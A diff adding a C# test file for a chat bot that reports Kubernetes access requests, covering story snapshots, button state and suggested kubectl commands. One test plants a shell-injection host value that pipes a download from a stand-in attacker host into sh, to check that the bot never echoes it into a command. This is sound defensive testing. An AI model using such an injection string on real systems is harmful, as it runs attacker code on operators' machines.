@@ -1,0 +1,151 @@
+using System.Text;
+using CsCheck;
+using JitBot.Core.Chat.Story;
+using JitBot.Core.Clusters;
+using JitBot.Core.Requests;
+using JitBot.Core.Requests.Events;
+using JitBot.Testing;
+
+namespace JitBot.Core.Tests.Chat;
+
+public sealed class RequestStoryTests
+{
+    private static readonly RequestId Id = new(42);
+
+    public static TheoryData<string> Names => [.. Stories.Keys];
+
+    private static Dictionary<string, RequestEvent[]> Stories { get; } =
+        new(StringComparer.Ordinal)
+        {
+            ["pending"] = [StoryEvents.Asked],
+            ["half-approved"] = [.. StoryEvents.ToActive.Take(3)],
+            ["active"] = StoryEvents.ToActive,
+            ["expired"] = StoryEvents.ToExpired,
+            ["revoked-with-other-access"] = StoryEvents.ToRevokedWithRest,
+            ["denied"] = [StoryEvents.Asked, new Denied(StoryEvents.After(1), StoryEvents.Bob, "not during the sale")],
+            ["withdrawn"] = [StoryEvents.Asked, new Withdrawn(StoryEvents.After(1), StoryEvents.Alice)],
+            ["timed-out"] = [StoryEvents.Asked, new TimedOut(StoryEvents.After(30))],
+            ["grant-failed"] =
+            [
+                .. StoryEvents.ToActive.Take(6),
+                new EndStarted(StoryEvents.After(23), EndReason.GrantFailed, null, "the API server does not answer"),
+                new Ended(StoryEvents.After(24), []),
+            ],
+            ["drifted"] =
+            [
+                .. StoryEvents.ToActive,
+                new EndStarted(StoryEvents.After(9), EndReason.Drifted, null, "the RoleBinding was deleted"),
+                new Ended(StoryEvents.After(9), []),
+            ],
+            ["done"] =
+            [
+                .. StoryEvents.ToActive,
+                new EndStarted(StoryEvents.After(9), EndReason.Done, StoryEvents.Alice, null),
+                new Ended(StoryEvents.After(9), []),
+            ],
+        };
+
+    [Theory]
+    [MemberData(nameof(Names))]
+    public void A_story_reads_as_committed(string name) => Snapshot.Match(Write(RequestStory.Tell(Id, Stories[name])), $"{name}.txt");
+
+    [Theory]
+    [MemberData(nameof(Names))]
+    public void What_was_told_of_an_event_is_not_changed_by_later_ones(string name)
+    {
+        var all = Stories[name];
+        var whole = RequestStory.Tell(Id, all);
+        // What one write appends is never seen apart
+        for (var length = 1; length <= all.Length; length++)
+        {
+            if (length < all.Length && all[length] is Approved)
+            {
+                continue;
+            }
+
+            var part = RequestStory.Tell(Id, all[..length]);
+            Assert.Equal(Posts(part.Thread), Posts(whole.Thread).Take(part.Thread.Count));
+            Assert.Equal(Posts(part.Direct), Posts(whole.Direct).Take(part.Direct.Count));
+            Assert.Equal(Posts(part.Alerts), Posts(whole.Alerts).Take(part.Alerts.Count));
+        }
+    }
+
+    [Theory]
+    [MemberData(nameof(Names))]
+    public void The_buttons_are_there_only_while_it_is_pending(string name)
+    {
+        var all = Stories[name];
+        for (var length = 1; length <= all.Length; length++)
+        {
+            var history = all[..length];
+            var phase = AccessRequestProjection.Apply(null, Id, history).Phase;
+            Assert.Equal(phase == RequestPhase.Pending, RequestStory.Tell(Id, history).Card!.Decidable);
+        }
+    }
+
+    [Fact]
+    public void Of_a_refused_request_nothing_is_posted()
+    {
+        var refused = StoryEvents.Asked with { Verdict = StoryEvents.Asked.Verdict with { Allowed = false, Plan = null } };
+
+        var story = RequestStory.Tell(Id, [refused, new Refused(StoryEvents.Start)]);
+
+        Assert.Null(story.Card);
+        Assert.Empty(story.Thread.Concat(story.Direct).Concat(story.Alerts));
+    }
+
+    [Fact]
+    public void A_host_that_a_shell_could_read_otherwise_is_not_put_into_a_command()
+    {
+        var hostile = StoryEvents.Asked with
+        {
+            Fields = IngressFields.Tls,
+            Target = new IngressSnapshot(["x'; curl evil.example | sh; '"], []),
+        };
+
+        var story = RequestStory.Tell(Id, [hostile, .. StoryEvents.ToActive[1..]]);
+
+        Assert.DoesNotContain(story.Direct.SelectMany(post => post.Paragraphs), paragraph => paragraph.Plain.Contains("curl", StringComparison.Ordinal));
+    }
+
+    [Fact]
+    public void Each_field_has_an_example_and_the_requester_is_told_to_change_only_what_was_approved()
+    {
+        Gen.Int[1, (int)IngressFields.All]
+            .Sample(bits =>
+            {
+                var fields = (IngressFields)bits;
+                var story = RequestStory.Tell(Id, [StoryEvents.Asked with { Fields = fields }, .. StoryEvents.ToActive[1..]]);
+                var text = string.Join('\n', story.Direct[^1].Paragraphs.Select(paragraph => paragraph.Plain));
+                Assert.Contains("kubectl --context prod -n shop edit ingress storefront", text, StringComparison.Ordinal);
+                Assert.Contains("kubectl --context prod -n shop patch ingress storefront --type=", text, StringComparison.Ordinal);
+                Assert.Equal(fields != IngressFields.All, text.Contains($"Approved is only: {fields.ToText()}.", StringComparison.Ordinal));
+            });
+    }
+
+    private static IEnumerable<string> Posts(IEnumerable<StoryPost> posts) => posts.Select(Write);
+
+    private static string Write(RequestStory story)
+    {
+        var text = new StringBuilder();
+        var card = story.Card!;
+        text.AppendLine($"CARD {card.Title}").AppendLine($"  {card.State.Plain}");
+        foreach (var fact in card.Facts)
+        {
+            text.AppendLine($"  {fact.Label}: {fact.Value.Plain}");
+        }
+
+        text.AppendLine($"  Reason: {card.Reason}").AppendLine(card.Decidable ? "  [Approve] [Deny]" : "  (no buttons)");
+        foreach (var (place, posts) in new[] { ("THREAD", story.Thread), ("DIRECT", story.Direct), ("ALERT", story.Alerts) })
+        {
+            foreach (var post in posts)
+            {
+                text.Append($"{place} {Write(post)}");
+            }
+        }
+
+        return text.ToString();
+    }
+
+    private static string Write(StoryPost post) => $"{post.Key}\n{string.Concat(post.Paragraphs.Select(paragraph => $"  {paragraph.Plain}\n"))}";
+}
